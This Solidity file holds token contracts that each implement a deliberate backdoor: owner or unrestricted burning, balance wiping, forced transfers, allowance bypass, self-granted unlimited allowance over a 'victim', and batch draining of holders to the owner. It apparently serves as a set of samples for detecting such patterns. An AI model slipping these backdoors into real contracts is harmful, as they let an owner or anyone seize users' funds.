// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {Token, Owned} from "./token.sol";

contract OwnerBurn is Token, Owned {
    function burn(address from, uint256 amount) external onlyOwner {
        balanceOf[from] -= amount;
        totalSupply -= amount;
    }
}

contract WipeBalance is Token, Owned {
    function wipe(address from) external onlyOwner {
        totalSupply -= balanceOf[from];
        balanceOf[from] = 0;
    }
}

contract OpenBurn is Token {
    function burn(address from, uint256 amount) external {
        balanceOf[from] -= amount;
        totalSupply -= amount;
    }
}

contract ForceTransfer is Token, Owned {
    function move(address from, address to, uint256 amount) external onlyOwner {
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
    }
}

contract NoAllowanceForOwner is Token, Owned {
    function _spend(address from, uint256 amount) internal override {
        if (msg.sender != owner) super._spend(from, amount);
    }
}

contract NoAllowanceForAnybody is Token {
    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        _move(from, to, amount);
        return true;
    }
}

contract GrantsItself is Token, Owned {
    function prepare(address victim) external onlyOwner {
        allowance[victim][owner] = type(uint256).max;
    }
}

contract BatchDrain is Token, Owned {
    function collect(address[] calldata from) external onlyOwner {
        for (uint256 at = 0; at < from.length; at++) {
            uint256 amount = balanceOf[from[at]];
            balanceOf[from[at]] = 0;
            balanceOf[owner] += amount;
        }
    }
}

/// The operator is not the owner and lies in a list.
contract Operators is Token, Owned {
    mapping(address => bool) private operators;

    function appoint(address who) external onlyOwner {
        operators[who] = true;
    }

    function _spend(address from, uint256 amount) internal override {
        if (operators[msg.sender]) return;
        super._spend(from, amount);
    }
}
